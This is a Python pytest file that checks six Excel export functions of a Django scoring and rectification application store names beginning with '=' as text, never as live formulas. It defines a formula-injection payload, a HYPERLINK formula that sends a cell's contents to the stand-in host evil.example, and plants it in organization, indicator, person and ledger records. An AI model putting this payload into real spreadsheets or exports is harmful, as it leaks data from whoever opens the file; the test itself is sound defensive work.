"""Every Excel writer stores text as text: a name beginning with "=" never becomes a formula.

Names are put straight into the database here (validation refuses them at the door, see
tests/test_formula_names.py), because an export must be safe even for data that predates it.
"""

from __future__ import annotations

from collections.abc import Callable
from datetime import date
from io import BytesIO
from typing import Any

import pytest
from openpyxl import load_workbook

from shuzhi.orgs.exporting import export_subtree
from shuzhi.orgs.models import Organization, Person
from shuzhi.rectification import services
from shuzhi.rectification.exporting import write_ledger
from shuzhi.rounds.indicator_workbook import export_indicators
from shuzhi.rounds.models import Indicator
from shuzhi.scoring import excel, queries
from shuzhi.scoring.computing import request_computation
from shuzhi.scoring.engine import compute
from shuzhi.scoring.models import Result
from shuzhi.scoring.summary import results_workbook
from shuzhi.scoring.template import template_workbook
from shuzhi.scoring.workbook import read_round_workbook
from tests.factories import make_user
from tests.rectification.conftest import raise_problem
from tests.scoring.helpers import scored_round

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def _computed(small_city: Any, actor: Any, capture: Any) -> Any:
    round_, _ = scored_round(small_city, actor)
    with capture(execute=True):
        request_computation(actor=actor, round=round_)
    return round_


def orgs_export(small_city: Any, actor: Any, capture: Any) -> bytes:
    Organization.objects.filter(pk=small_city.town_a1.pk).update(name=EVIL)
    buffer = BytesIO()
    export_subtree(small_city.city, buffer)
    return buffer.getvalue()


def indicator_export(small_city: Any, actor: Any, capture: Any) -> bytes:
    round_, _ = scored_round(small_city, actor)
    Indicator.objects.filter(round=round_, code="1.1").update(name=EVIL)
    return export_indicators(round_)


def site_summary(small_city: Any, actor: Any, capture: Any) -> bytes:
    round_ = _computed(small_city, actor, capture)
    Person.objects.filter(code="P-SEC").update(name=EVIL)
    return excel.summary_workbook(round_, queries.results_by_group(round_))


def score_sheet(small_city: Any, actor: Any, capture: Any) -> bytes:
    round_ = _computed(small_city, actor, capture)
    Indicator.objects.filter(round=round_, code="1.1").update(name=EVIL)
    result = Result.objects.select_related("reporter__person", "reporter__organization").first()
    assert result is not None
    return excel.score_sheets(round_, [(result, queries.breakdown_lines(round_, result))])


def cli_results(small_city: Any, actor: Any, capture: Any) -> bytes:
    buffer = BytesIO()
    template_workbook().save(buffer)
    buffer.seek(0)
    rules, indicators, reporters = read_round_workbook(buffer)
    workbook = results_workbook(rules, compute(rules, indicators, reporters), {"R001": EVIL})
    out = BytesIO()
    workbook.save(out)
    return out.getvalue()


def ledger(small_city: Any, actor: Any, capture: Any) -> bytes:
    secretary = make_user(
        "town_sec", "secretary", small_city.town_a1, person=Person.objects.get(code="P-SEC")
    )
    services.create_item(
        actor=secretary,
        problem=raise_problem(small_city.town_a1, EVIL),
        measures=EVIL,
        deadline=date(2026, 1, 31),
    )
    buffer = BytesIO()
    write_ledger(small_city.city, buffer, today=date(2026, 6, 1))
    return buffer.getvalue()


WRITERS: list[Callable[..., bytes]] = [
    orgs_export,
    indicator_export,
    site_summary,
    score_sheet,
    cli_results,
    ledger,
]


@pytest.mark.parametrize("writer", WRITERS, ids=lambda w: w.__name__)
def test_text_beginning_with_equals_is_exported_as_text(
    writer: Callable[..., bytes],
    small_city: Any,
    city_admin: Any,
    django_capture_on_commit_callbacks: Any,
) -> None:
    data = writer(small_city, city_admin, django_capture_on_commit_callbacks)
    workbook = load_workbook(BytesIO(data))  # not data_only: a formula would show as one
    cells = [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
    ]
    assert cells, "the name was not exported at all"
    for cell in cells:
        assert cell.data_type == "s", cell.coordinate
        # Excel would re-read a leading "=" as a formula when the cell is edited; not so
        # when the quote prefix is set.
        assert cell.quotePrefix or not cell.value.startswith("="), cell.coordinate
    assert not any(
        cell.data_type == "f"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
    )
